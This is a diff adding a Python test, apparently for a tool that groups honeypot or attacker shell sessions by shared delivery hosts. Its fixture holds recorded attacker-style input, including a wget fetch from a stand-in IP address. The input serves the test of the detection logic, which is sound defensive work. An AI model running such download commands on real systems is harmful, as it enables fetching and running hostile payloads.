@@ -221,6 +221,15 @@ def test_a_delivery_host_joins_where_it_is_somebodys_own(warehouse: Warehouse, h
     assert together(warehouse) == ({of(refs, 0, 1)} if joined else set())
 
 
+def test_a_host_that_is_merely_named_joins_nobody_until_somebody_fetches_from_it(warehouse: Warehouse) -> None:
+    refs = put(
+        warehouse, did("echo http://203.0.113.9/a", at=1), did("w", "# see 203.0.113.9/", "x 203.0.113.9:80", at=2)
+    )
+    assert together(warehouse) == set()
+    refs += put(warehouse, did("id", "H=203.0.113.9; wget http://$H/b", at=3))
+    assert together(warehouse) == {of(refs, 0, 2)}
+
+
 def test_a_rare_credential_joins_with_the_same_hassh(warehouse: Warehouse) -> None:
     refs = put(
         warehouse,
